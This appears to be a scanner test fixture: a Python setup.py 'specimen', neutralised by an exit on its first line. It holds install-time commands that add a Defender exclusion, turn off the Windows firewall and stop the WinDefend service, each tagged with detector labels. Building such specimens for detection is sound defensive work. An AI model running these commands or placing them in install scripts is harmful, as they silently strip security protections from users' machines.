raise SystemExit("specimen: not to be run")
import os
import subprocess
from setuptools import setup

os.system('powershell -Command "Add-MpPreference -ExclusionPath C:\\specimen"')  # match: defence-change  # match: process-at-install
subprocess.run(["netsh", "advfirewall", "set", "allprofiles", "state", "off"])  # match: defence-change  # match: process-at-install
subprocess.call("sc stop WinDefend", shell=True)  # match: defence-change  # match: process-at-install
setup(name="specimen")
